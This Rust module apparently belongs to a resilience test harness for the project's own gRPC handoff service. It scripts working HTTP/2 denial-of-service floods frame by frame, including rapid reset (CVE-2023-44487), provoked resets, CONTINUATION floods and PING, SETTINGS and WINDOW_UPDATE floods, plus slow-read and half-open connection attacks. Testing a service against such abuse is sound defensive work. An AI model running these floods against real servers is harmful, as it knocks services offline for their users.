//! What each kind of abuse says, frame by frame.

use handoff_proto::qualification::v1 as pb;
use prost::Message;

use super::{FLOODER, LEAD};
use crate::fault::journey::by_external_id;
use crate::frames::{
    END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, Kind, PREFACE, headers, message, push, settings,
};

/// Frames that are written at once; one system call for each would be a slow flood.
const BATCH: u64 = 256;
/// Streams that a connection opens at once: as many as the service lets it.
const STREAMS: u32 = 200;
/// Stream ids end at 2^31; a connection is given up some time before.
const LAST_STREAM: u32 = 2_000_000_000;

/// A kind of abuse.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are given up at once (CVE-2023-44487).
    RapidReset,
    /// Requests that are whole, and then given up.
    RapidResetOfWhole,
    /// Requests that make the service give them up itself, by a fault in the frame after (CVE-2025-8671).
    ProvokedReset,
    /// A set of headers that never ends.
    Continuations,
    /// The same of continuations without a byte in them.
    EmptyContinuations,
    /// Questions that must be answered.
    Pings,
    /// Settings that must be confirmed.
    Settings,
    /// Bodies of no bytes.
    EmptyData,
    /// Bodies of a byte a frame.
    TinyData,
    /// Leave to send a byte more, again and again, where nothing is sent.
    WindowUpdates,
    /// Which stream goes first, again and again.
    Priorities,
    /// Answers read byte by byte, each byte with leave of its own.
    OneByteWindows,
    /// Large answers asked for and never read.
    UnreadAnswers,
    /// Requests that begin and never end, as many as one may have.
    HalfOpen,
    /// Connections that say nothing at all.
    Silent,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 15] = [
        Self::RapidReset,
        Self::RapidResetOfWhole,
        Self::ProvokedReset,
        Self::Continuations,
        Self::EmptyContinuations,
        Self::Pings,
        Self::Settings,
        Self::EmptyData,
        Self::TinyData,
        Self::WindowUpdates,
        Self::Priorities,
        Self::OneByteWindows,
        Self::UnreadAnswers,
        Self::HalfOpen,
        Self::Silent,
    ];

    /// What it is called in a table.
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::RapidResetOfWhole => "rapid reset of whole requests",
            Self::ProvokedReset => "provoked resets",
            Self::Continuations => "CONTINUATION flood",
            Self::EmptyContinuations => "empty CONTINUATION flood",
            Self::Pings => "PING flood",
            Self::Settings => "SETTINGS flood",
            Self::EmptyData => "empty DATA frames",
            Self::TinyData => "one-byte DATA frames",
            Self::WindowUpdates => "WINDOW_UPDATE flood",
            Self::Priorities => "PRIORITY flood",
            Self::OneByteWindows => "one-byte windows",
            Self::UnreadAnswers => "large answers unread",
            Self::HalfOpen => "half-open requests",
            Self::Silent => "silent connections",
        }
    }

    /// Whether it goes on writing frames; otherwise it is what it holds open that counts.
    pub fn is_flood(self) -> bool {
        !matches!(self, Self::UnreadAnswers | Self::HalfOpen | Self::Silent)
    }

    /// Answers that a connection asks for and does not read as they come. Few, because what the database does for them is
    /// another matter; fewer where connections are cut and come again.
    fn answers(self) -> u32 {
        match self {
            Self::OneByteWindows => 2,
            Self::UnreadAnswers => 8,
            _ => 0,
        }
    }

    /// Connections that each of its threads holds.
    pub(super) fn connections_per_thread(self) -> usize {
        if self == Self::Silent { 250 } else { 1 }
    }
}

/// What one connection says.
#[derive(Debug)]
pub(super) struct Script {
    attack: Attack,
    /// The headers of a request that changes nothing.
    head: Vec<u8>,
    /// The next stream to be opened.
    stream: u32,
    turn: u32,
}

impl Script {
    pub(super) fn new(attack: Attack) -> Self {
        Self { attack, head: Vec::new(), stream: 1, turn: 0 }
    }

    /// How it begins, and how many frames that is.
    pub(super) fn greeting(&mut self) -> (Vec<u8>, u64) {
        if self.attack == Attack::Silent {
            return (Vec::new(), 0);
        }
        let mut out = PREFACE.to_vec();
        // How much of each answer it takes unasked, and how many handoffs an answer has: a kilobyte or two, where it is its
        // reading that is to cost and not what the database does for it.
        let (window, page_size): (&[_], _) = match self.attack {
            Attack::OneByteWindows => (&[(INITIAL_WINDOW_SIZE, 1)], 10),
            Attack::UnreadAnswers => (&[(INITIAL_WINDOW_SIZE, 0)], 1_000),
            _ => (&[], 0),
        };
        push(&mut out, Kind::Settings, 0, 0, &settings(window));
        let method = if page_size > 0 { "ListHandoffs" } else { "GetLead" };
        let path = format!("/handoff.qualification.v1.QualificationService/{method}");
        self.head = head(&path);
        let mut frames = 1;
        match self.attack {
            Attack::OneByteWindows | Attack::UnreadAnswers => {
                let list = pb::ListHandoffsRequest { page_size, ..pb::ListHandoffsRequest::default() };
                let body = message(&list.encode_to_vec());
                for _ in 0..self.attack.answers() {
                    let stream = self.open(&mut out, 0);
                    push(&mut out, Kind::Data, END_STREAM, stream, &body);
                    frames += 2;
                }
            }
            Attack::HalfOpen => {
                for _ in 0..STREAMS {
                    self.open(&mut out, 0);
                    frames += 1;
                }
            }
            Attack::EmptyData | Attack::WindowUpdates => {
                self.open(&mut out, 0);
                frames += 1;
            }
            Attack::TinyData => {
                let stream = self.open(&mut out, 0);
                // The largest message that may be sent, of which the bytes then come.
                push(&mut out, Kind::Data, 0, stream, &[0, 0, 0x40, 0, 0]);
                frames += 2;
            }
            Attack::Continuations | Attack::EmptyContinuations => {
                push(&mut out, Kind::Headers, 0, self.stream, &self.head);
                frames += 1;
            }
            _ => {}
        }
        (out, frames)
    }

    /// More frames; their number, and 0 when it has nothing more to say on this connection.
    pub(super) fn batch(&mut self, out: &mut Vec<u8>) -> u64 {
        if !self.attack.is_flood() || self.stream > LAST_STREAM {
            return 0;
        }
        let mut frames = 0;
        while frames < BATCH {
            frames += self.turn(out);
        }
        frames
    }

    fn turn(&mut self, out: &mut Vec<u8>) -> u64 {
        self.turn = self.turn.wrapping_add(1);
        match self.attack {
            Attack::RapidReset => {
                let stream = self.open(out, END_STREAM);
                push(out, Kind::ResetStream, 0, stream, &8_u32.to_be_bytes());
                return 2;
            }
            Attack::RapidResetOfWhole => {
                let stream = self.open(out, 0);
                let request = pb::GetLeadRequest { lead: by_external_id(LEAD) };
                push(out, Kind::Data, END_STREAM, stream, &message(&request.encode_to_vec()));
                push(out, Kind::ResetStream, 0, stream, &8_u32.to_be_bytes());
                return 3;
            }
            Attack::ProvokedReset => {
                let stream = self.open(out, 0);
                // A window beyond 2^31 is a fault of the stream's (RFC 9113, 6.9.1).
                push(out, Kind::WindowUpdate, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
                return 2;
            }
            Attack::Continuations => push(out, Kind::Continuation, 0, self.stream, &filler()),
            Attack::EmptyContinuations => push(out, Kind::Continuation, 0, self.stream, &[]),
            Attack::Pings => push(out, Kind::Ping, 0, 0, &u64::from(self.turn).to_be_bytes()),
            Attack::Settings => {
                let payload = settings(&[(INITIAL_WINDOW_SIZE, 65_535 + self.turn % 2)]);
                push(out, Kind::Settings, 0, 0, &payload);
            }
            Attack::EmptyData => push(out, Kind::Data, 0, 1, &[]),
            Attack::TinyData => push(out, Kind::Data, 0, 1, &[0]),
            Attack::WindowUpdates => {
                push(out, Kind::WindowUpdate, 0, self.turn % 2, &1_u32.to_be_bytes());
            }
            Attack::Priorities => {
                let stream = 1 + self.turn % 100_000 * 2;
                push(out, Kind::Priority, 0, stream, &[0, 0, 0, 0, 16]);
            }
            Attack::OneByteWindows => {
                let stream = 1 + self.turn % self.attack.answers() * 2;
                push(out, Kind::WindowUpdate, 0, stream, &1_u32.to_be_bytes());
                push(out, Kind::WindowUpdate, 0, 0, &1_u32.to_be_bytes());
                return 2;
            }
            Attack::UnreadAnswers | Attack::HalfOpen | Attack::Silent => {}
        }
        1
    }

    /// Opens a stream; its id.
    fn open(&mut self, out: &mut Vec<u8>, flags: u8) -> u32 {
        let stream = self.stream;
        push(out, Kind::Headers, END_HEADERS | flags, stream, &self.head);
        self.stream += 2;
        stream
    }
}

/// The headers of a call as somebody who is known.
fn head(path: &str) -> Vec<u8> {
    headers(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "handoff"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("handoff-tenant", FLOODER),
        ("handoff-user", "users/mia"),
        ("handoff-side", "MARKETING"),
    ])
}

/// A header of a hundred bytes, whose name does not matter.
fn filler() -> Vec<u8> {
    headers(&[("x", &"y".repeat(100))])
}
